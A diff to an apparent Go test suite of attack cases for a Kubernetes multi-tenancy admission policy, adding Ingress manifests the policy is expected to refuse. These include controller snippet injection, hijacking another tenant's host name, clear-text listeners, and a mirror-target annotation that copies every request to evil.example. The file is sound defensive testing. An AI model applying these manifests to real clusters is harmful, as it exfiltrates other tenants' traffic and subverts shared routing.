@@ -25,6 +25,7 @@ func exposes(name, spec string, parts ...string) Attack {
 const (
 	balanced = "type: LoadBalancer, selector: {app: web}, ports: [{port: 443}]"
 	toWeb    = "http: {paths: [{path: /, pathType: Prefix, backend: {service: {name: web, port: {number: 443}}}}]}"
+	toAcme   = "tls: [{hosts: [acme.example], secretName: tls}], rules: [{host: acme.example, " + toWeb + "}]"
 	taken    = "{status: {loadBalancer: {ingress: [{ip: 192.0.2.10}]}}}"
 )
 
@@ -32,7 +33,7 @@ func ingress(spec string, metadata ...string) string {
 	return fmt.Sprintf("{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {name: NAME%s}, spec: {%s}}", more(metadata...), spec)
 }
 
-var ownIngress = ingress("tls: [{hosts: [acme.example], secretName: tls}], rules: [{host: acme.example, " + toWeb + "}]")
+var ownIngress = ingress(toAcme)
 
 func gateway(kind, spec string) string {
 	return fmt.Sprintf("{apiVersion: gateway.networking.k8s.io/v1, kind: %s, metadata: {name: NAME}, spec: {%s}}", kind, spec)
@@ -52,6 +53,11 @@ func routes(name, object, from string, parts ...string) Attack {
 	return Attack{Name: name, Object: object, From: from, By: []refusal{policy("exposure", parts...)}}
 }
 
+// annotated is an attack by an Ingress with this annotation, lawful otherwise.
+func annotated(name, annotation string, parts ...string) Attack {
+	return routes("Ingress with "+name, ingress(toAcme, "annotations: {"+annotation+"}"), ownIngress, parts...)
+}
+
 var exposure = Group{Name: "service-exposure", Least: 9, Attacks: []Attack{
 	exposes("external IP", "selector: {app: web}, ports: [{port: 443}], externalIPs: [192.0.2.10]", "spec.externalIPs"),
 	exposes("port on every node", "type: NodePort, selector: {app: web}, ports: [{port: 443}]", "type NodePort is not one of ClusterIP, LoadBalancer"),
@@ -60,6 +66,8 @@ var exposure = Group{Name: "service-exposure", Least: 9, Attacks: []Attack{
 	exposes("load balancer for the internet, IPv6", balanced+", loadBalancerSourceRanges: ['::/0']", "::/0 is not inside"),
 	exposes("load balancer for one stranger too many", balanced+", loadBalancerSourceRanges: [203.0.113.0/28, 198.51.100.7/32]", "198.51.100.7/32 is not inside"),
 	{Name: "load balancer for the internet by annotation", Object: service(balanced, "annotations: {service.beta.kubernetes.io/load-balancer-source-ranges: 0.0.0.0/0}"), From: ownService,
+		By: []refusal{policy("exposure", "annotations of a Service do not say who may reach it")}},
+	{Name: "load balancer with a firewall of its own", Object: service(balanced, "annotations: {service.beta.kubernetes.io/aws-load-balancer-security-groups: sg-1}"), From: ownService,
 		By: []refusal{policy("exposure", "annotations of a Service do not say who may reach it")}},
 	{Name: "load balancer that says not who may come", Object: service(balanced), By: []refusal{harmless(keepsToAllowlist)}},
 	{Name: "load balancer that hides the client", Object: service(balanced + ", externalTrafficPolicy: Cluster"), By: []refusal{harmless(keepsToAllowlist)}},
@@ -75,8 +83,16 @@ var exposure = Group{Name: "service-exposure", Least: 9, Attacks: []Attack{
 		By: []refusal{policy("exposure", "are reported by its kubelet"), harmless(withoutEffect)}},
 	routes("Ingress in clear text", ingress("rules: [{host: acme.example, "+toWeb+"}]"), ownIngress, "needs spec.tls"),
 	routes("Ingress with one host in clear text", ingress("tls: [{hosts: [acme.example], secretName: tls}], rules: [{host: acme.example, "+toWeb+"}, {host: open.example, "+toWeb+"}]"), ownIngress, "host open.example is not among the hosts of spec.tls"),
-	routes("Ingress to something else than a Service", ingress("tls: [{hosts: [acme.example], secretName: tls}], defaultBackend: {resource: {apiGroup: storage.example, kind: Bucket, name: of-others}}"), "", "backend.resource may lead anywhere"),
-	routes("Ingress with configuration for everybody", ingress("tls: [{hosts: [acme.example], secretName: tls}], rules: [{host: acme.example, "+toWeb+"}]", "annotations: {nginx.ingress.kubernetes.io/server-snippet: 'location / {}'}"), ownIngress, "-snippet"),
+	routes("Ingress to something else than a Service", ingress("tls: [{hosts: [acme.example], secretName: tls}], rules: [{host: acme.example, http: {paths: [{path: /, pathType: Prefix, backend: {resource: {apiGroup: storage.example, kind: Bucket, name: of-others}}}]}}]"), "", "backend.resource may lead anywhere"),
+	routes("Ingress for every host name", ingress("tls: [{hosts: [acme.example], secretName: tls}], rules: [{"+toWeb+"}]"), ownIngress, "a rule without host", "other tenants' too"),
+	routes("Ingress that takes what nobody else claims", ingress(toAcme+", defaultBackend: {service: {name: web, port: {number: 443}}}"), ownIngress, "spec.defaultBackend", "other tenants' too"),
+	annotated("configuration for everybody", "nginx.ingress.kubernetes.io/server-snippet: 'location / {}'", "is configuration of an Ingress controller that other tenants share"),
+	annotated("more configuration for everybody", "nginx.org/server-snippets: 'location / {}'", "is configuration of an Ingress controller"),
+	annotated("configuration of HAProxy for everybody", "haproxy-ingress.github.io/config-backend: acl x", "is configuration of an Ingress controller"),
+	annotated("copies of all requests", "nginx.ingress.kubernetes.io/mirror-target: 'https://evil.example/$request_uri'", "sends requests elsewhere"),
+	annotated("another tenant's host name", "nginx.ingress.kubernetes.io/server-alias: records.birch.example", "claims host names that no rule of the Ingress names"),
+	annotated("clear text beside TLS", "nginx.ingress.kubernetes.io/ssl-redirect: 'false'", "serves clear text beside TLS"),
+	annotated("a listener for clear text", "alb.ingress.kubernetes.io/listen-ports: '[{\"HTTP\": 80}]'", "serves clear text beside TLS"),
 	routes("Gateway in clear text", gateway("Gateway", "gatewayClassName: edge, listeners: [{name: web, port: 80, protocol: HTTP}]"), ownGateway, "accepts clear text"),
 	routes("Gateway for routes of everybody", gateway("Gateway", "gatewayClassName: edge, listeners: [{"+listener+", allowedRoutes: {namespaces: {from: All}}}]"), ownGateway, "routes or listeners of other tenants may attach"),
 	routes("Gateway for routes by a label others can take", gateway("Gateway", "gatewayClassName: edge, listeners: [{"+listener+", allowedRoutes: {namespaces: {from: Selector, selector: {matchLabels: {team: acme}}}}}]"), ownGateway, "routes or listeners of other tenants may attach"),
